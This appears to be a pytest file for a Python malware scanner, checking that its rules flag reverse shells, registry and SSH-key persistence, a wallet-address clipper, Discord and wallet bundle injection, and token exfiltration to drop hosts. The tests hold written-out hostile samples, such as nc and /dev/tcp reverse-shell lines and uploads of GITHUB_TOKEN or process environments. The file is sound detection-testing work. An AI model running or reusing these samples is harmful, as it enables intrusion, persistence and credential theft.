"""Indicator patterns (caplet._scan._indicators) read in context: the two false positives of
the benign corpus that were indicators matching words out of their threat's context."""

from __future__ import annotations

import textwrap

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source


def danger(source: str, filename: str = "mod.py", mode: ScanMode = ScanMode.PLUGIN) -> set[str]:
    findings = scan_source(textwrap.dedent(source), filename, mode=mode)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


@pytest.mark.parametrize(
    "command",
    [
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
        "sh -i 2>&1 | nc 192.0.2.1 4444",
    ],
)
def test_an_interactive_shell_wired_to_the_network_is_a_reverse_shell(command: str) -> None:
    assert "CPL-THR-008" in danger(f"import os\nos.system({command!r})\n")


def test_an_interactive_shell_alone_is_not_a_reverse_shell() -> None:
    # jupyter-client's tests/signalkernel.py: a job-control child for a signal test
    source = """
    from subprocess import PIPE, Popen

    def start():
        return Popen(["bash", "-i", "-c", "sleep 30"], stderr=PIPE)
    """
    assert "CPL-THR-008" not in danger(source)


def test_the_windows_startup_folder_written_is_persistence() -> None:
    # the folder as the last piece of a path joined from a variable: spelled as Windows does
    source = """
    import os
    with open(os.path.join(os.getenv("PROGRAMS_DIR"), "{}"), "w") as fh:
        fh.write("x")
    """
    assert "CPL-THR-009" in danger(source.format("Startup"))
    assert "CPL-THR-009" not in danger(source.format("startup"))


def test_a_programs_own_startup_directory_is_not_an_autostart_location() -> None:
    # ipython's tests/test_ipapp.py: a startup file in IPYTHONDIR's profile, removed after
    source = """
    import os

    def test_startup_files(tmp_path):
        startup_dir = os.path.join(os.environ["IPYTHONDIR"], "profile_default", "startup")
        os.makedirs(startup_dir, exist_ok=True)
        startup_file = os.path.join(startup_dir, "zzz_startup.py")
        with open(startup_file, "w") as fh:
            fh.write("zzz_startup_var = 'su'\\n")
        os.unlink(startup_file)
    """
    assert "CPL-THR-009" not in danger(source, "test_ipapp.py")


# -- blind14: registry keys Windows runs a command from, written -------------------------------

_HIJACKED_KEYS = {
    "ms-settings": r"Software\Classes\ms-settings\Shell\Open\command",
    "mscfile": "Software\\\\Classes\\\\mscfile\\\\shell\\\\open\\\\command",
    "ifeo": r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe",
    "winlogon": r"Software\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell",
}


@pytest.mark.parametrize("key", sorted(_HIJACKED_KEYS))
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_command_written_under_a_key_windows_runs_is_persistence(
    key: str, mode: ScanMode
) -> None:
    source = f"""
    import winreg
    k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"{_HIJACKED_KEYS[key]}")
    winreg.SetValueEx(k, "", 0, winreg.REG_SZ, PAYLOAD)
    """
    assert "CPL-THR-009" in danger(source, mode=mode)


@pytest.mark.parametrize(
    "source",
    [
        # a tool that lists the debuggers set under Image File Execution Options (read only)
        r"""
        import winreg
        ifeo = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options"
        k = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, ifeo)
        names = [winreg.EnumKey(k, i) for i in range(winreg.QueryInfoKey(k)[0])]
        """,
        # an installer registering its own file type's open command
        r"""
        import winreg
        key = r"Software\Classes\myapp.doc\shell\open\command"
        t = winreg.CreateKey(winreg.HKEY_CURRENT_USER, key)
        winreg.SetValueEx(t, "", 0, winreg.REG_SZ, '"C:\\Program Files\\MyApp\\myapp.exe" "%1"')
        """,
    ],
    ids=["ifeo-read", "own-file-type"],
)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_such_a_key_read_or_another_class_written_is_no_persistence(
    source: str, mode: ScanMode
) -> None:
    assert "CPL-THR-009" not in danger(source, mode=mode)


# -- blind16: the Run key written through the Win32 API itself (ctypes, pywin32) ---------------

_RUN_KEY = r"Software\Microsoft\Windows\CurrentVersion\Run"


@pytest.mark.parametrize(
    "source",
    [
        f"""
        import ctypes
        from ctypes import wintypes
        a = ctypes.windll.advapi32
        h = wintypes.HKEY()
        a.RegOpenKeyExW(wintypes.HKEY(0x80000001), r"{_RUN_KEY}", 0, 0x20006, ctypes.byref(h))
        a.RegSetValueExW(h, "Upd", 0, 1, PAYLOAD, 64)
        """,
        f"""
        import win32api, win32con
        k = win32api.RegOpenKeyEx(win32con.HKEY_CURRENT_USER, r"{_RUN_KEY}", 0, 0xF003F)
        win32api.RegSetValueEx(k, "Upd", 0, win32con.REG_SZ, PAYLOAD)
        """,
    ],
    ids=["ctypes-advapi32", "pywin32"],
)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_the_run_key_written_through_the_win32_api_is_persistence(
    source: str, mode: ScanMode
) -> None:
    assert "CPL-THR-009" in danger(source, mode=mode)


def test_the_win32_api_writing_another_key_is_no_persistence() -> None:
    source = r"""
    import ctypes
    a = ctypes.windll.advapi32
    a.RegSetValueExW(h, "Theme", 0, 1, r"Software\MyApp\Settings", 64)
    """
    assert "CPL-THR-009" not in danger(source, mode=ScanMode.PACKAGE)


# -- blind14: a clipper reading and replacing the clipboard through a Tk window ----------------

_TK_CLIPPER = r"""
import re, tkinter
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
root = tkinter.Tk()
root.withdraw()
if ETH.match(root.clipboard_get()):
    root.clipboard_clear()
    root.clipboard_append("0x000000000000000000000000000000000000dEaD")
"""


@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_wallet_address_swapped_through_a_tk_clipboard_is_a_clipper(mode: ScanMode) -> None:
    assert "CPL-THR-014" in danger(_TK_CLIPPER, mode=mode)


def test_a_tk_clipboard_without_a_wallet_pattern_is_no_clipper() -> None:
    # a GUI's "copy to clipboard" button, and an address validator without a clipboard
    source = r"""
    import re, tkinter
    root = tkinter.Tk()
    def copy(text):
        root.clipboard_clear()
        root.clipboard_append(text)
    """
    validator = r"""
    import re
    ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
    def valid(address):
        return ETH.match(address) is not None
    """
    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
        assert "CPL-THR-014" not in danger(source, mode=mode) | danger(validator, mode=mode)


# -- blind14: the Discord client's core module rewritten (token-grabber injection) ------------


@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_the_discord_clients_core_module_rewritten_is_a_grabber(mode: ScanMode) -> None:
    source = """
    import glob, os
    pattern = os.path.join(os.getenv("LOCALAPPDATA"), "Discord", "app-*", "modules",
                           "discord_desktop_core-1", "discord_desktop_core", "index.js")
    for core in glob.glob(pattern):
        with open(core, "w") as fh:
            fh.write(INJECTION)
    """
    assert "CPL-THR-005" in danger(source, mode=mode)


def test_the_discord_clients_core_module_named_in_prose_is_no_grabber() -> None:
    # a Discord bot library's docstring explaining where the desktop client keeps its code
    source = '''
    def client_version():
        """The desktop client's version (the discord_desktop_core module is the client's,
        not this library's)."""
        return "2.0"
    '''
    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
        assert "CPL-THR-005" not in danger(source, mode=mode)


# -- blind14: an SSH key planted in authorized_keys ------------------------------------------


@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_key_appended_to_authorized_keys_is_persistence(mode: ScanMode) -> None:
    source = """
    import os
    ssh = os.path.join(os.path.expanduser("~"), ".ssh")
    with open(os.path.join(ssh, "authorized_keys"), "a") as fh:
        fh.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake admin@build\\n")
    """
    assert "CPL-THR-009" in danger(source, mode=mode)


def test_authorized_keys_read_or_known_hosts_written_is_no_persistence() -> None:
    # an SSH tool listing the keys a user accepts, and one recording a host's key
    source = """
    import os
    home = os.path.expanduser("~")
    with open(os.path.join(home, ".ssh", "authorized_keys")) as fh:
        keys = fh.read().splitlines()
    with open(os.path.join(home, ".ssh", "known_hosts"), "a") as fh:
        fh.write(HOST_LINE)
    """
    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
        assert "CPL-THR-009" not in danger(source, mode=mode)


# -- out-of-band, file-drop and tunnel hosts of exfil_domains.toml (branch recall14) ----------

#: A secret read and sent through a temporary file: no data flow joins the read to the
#: upload, so only the host says where the secret goes.
_UPLOAD_THROUGH_A_FILE = """\
import os, tempfile, requests
_tok = os.environ.get("GITHUB_TOKEN", "")
_fd, _path = tempfile.mkstemp(suffix=".txt")
with os.fdopen(_fd, "w") as fh:
    fh.write(_tok)
with open(_path, "rb") as fh:
    requests.post("https://{host}/api/v1/upload", files={{"file": fh}})
"""


@pytest.mark.parametrize(
    "host", ["tmpfiles.org", "k3j2.eyes.sh", "k3j2.dnslog.link", "bore.pub:41234", "dpaste.com"]
)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_secret_beside_a_drop_host_is_exfiltration(host: str, mode: ScanMode) -> None:
    assert "CPL-THR-004" in danger(_UPLOAD_THROUGH_A_FILE.format(host=host), "pkg/m.py", mode)


@pytest.mark.parametrize(
    "host", ["tmpfiles.org1.example", "noteyes.sh", "mybore.pub", "dnslog.linker.io"]
)
def test_a_longer_name_ending_with_a_drop_host_is_not_it(host: str) -> None:
    findings = scan_source(
        _UPLOAD_THROUGH_A_FILE.format(host=host), "pkg/m.py", mode=ScanMode.PACKAGE
    )
    assert not {f.rule_id for f in findings} & {"CPL-THR-004", "CPL-NET-004"}


# -- blind16: the environments of the host's processes, where a CI runner keeps its secrets -----

_TELEGRAM = "https://api.telegram.org/bot7000000000:DEFANGEDdefangedDEFANGEDdefanged00/sendDocument"


@pytest.mark.parametrize(
    "source",
    [
        f"""
        import glob, requests
        found = b"".join(open(p, "rb").read() for p in glob.glob("/proc/[0-9]*/environ"))
        requests.post("{_TELEGRAM}", files={{"document": ("ci.txt", found)}})
        """,
        """
        import requests
        env = open("/proc/self/environ", "rb").read().replace(b"\\0", b"\\n")
        requests.post("https://discord.com/api/webhooks/1/DEFANGED", data={"content": env})
        """,
    ],
    ids=["every-process", "self"],
)
def test_process_environments_sent_to_a_drop_are_exfiltration(source: str) -> None:
    assert "CPL-THR-004" in danger(source, mode=ScanMode.PACKAGE)


@pytest.mark.parametrize(
    "source",
    [
        # a process inspector reading another process's environment for its own output
        """
        def environ(pid):
            with open("/proc/%d/environ" % pid, "rb") as f:
                return dict(kv.split(b"=", 1) for kv in f.read().split(b"\\0") if kv)
        """,
        # a notifier that posts a message of its own, in a file that never reads one
        f"""
        import requests
        requests.post("{_TELEGRAM}", data={{"chat_id": 1, "text": "build done"}})
        """,
    ],
    ids=["inspector", "notifier"],
)
def test_a_process_environment_read_without_a_drop_or_a_drop_alone_is_no_theft(
    source: str,
) -> None:
    assert not danger(source, mode=ScanMode.PACKAGE) & {"CPL-THR-004", "CPL-THR-007"}


# -- blind18: a desktop wallet's Electron bundle replaced (b18-ot-wallet-asar-replace) --------

WALLET_BUNDLES = [
    """
    import glob, os, requests
    base = os.getenv("LOCALAPPDATA")
    targets = glob.glob(os.path.join(base, "exodus", "app-*", "resources", "app.asar"))
    targets += glob.glob(os.path.join(base, "Programs", "atomic", "resources", "app.asar"))
    asar = requests.get("https://cdn.example/a/app.asar").content
    for t in targets:
        with open(t, "wb") as fh:
            fh.write(asar)
    """,
    """
    import os, shutil
    dst = os.path.join(os.environ["LOCALAPPDATA"], "Programs", "atomic", "resources", "app.asar")
    shutil.copyfile(os.path.join(os.path.dirname(__file__), "x.bin"), dst)
    """,
]


@pytest.mark.parametrize("source", WALLET_BUNDLES)
def test_a_desktop_wallets_bundle_replaced_is_a_wallet_injection(source: str) -> None:
    assert "CPL-THR-005" in danger(source, mode=ScanMode.PACKAGE)


def test_an_electron_apps_own_bundle_built_or_named_in_prose_is_no_injection() -> None:
    # a packaging tool writing the bundle of the app it builds; a docstring naming wallets
    source = '''
    import os, shutil
    def package(build_dir, bundle):
        """Copy the bundle to resources/app.asar (as Exodus or Atomic ship theirs)."""
        shutil.copyfile(bundle, os.path.join(build_dir, "resources", "app.asar"))
    '''
    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
        assert "CPL-THR-005" not in danger(source, mode=mode)
